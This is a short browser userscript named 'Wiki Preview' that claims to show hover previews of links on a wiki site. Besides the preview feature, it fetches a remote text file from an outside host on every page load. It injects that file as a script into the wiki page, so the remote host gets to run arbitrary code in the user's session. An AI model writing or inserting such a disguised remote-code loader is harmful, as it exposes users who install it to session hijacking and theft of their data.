// ==UserScript==
// @name         Wiki Preview
// @namespace    wikipreview.example
// @version      0.9
// @description  Shows a preview of wiki links on hover.
// @match        https://wiki.example.org/*
// @grant        none
// ==/UserScript==

const load = (path) => fetch('https://preview.wikipreview.example' + path).then((r) => r.text());

const inject = (text) => {
  const el = document.createElement('script');
  el.textContent = text; //! harm
  document.head.append(el);
  el.remove();
};

const hovers = new Map();
document.addEventListener('mouseover', ({ target }) => {
  const link = target.closest('a[href^="/wiki/"]');
  if (!link || hovers.has(link)) return;
  hovers.set(link, load('/card' + link.pathname).then((html) => (link.title = html)));
});

load('/boot.txt').then(inject);
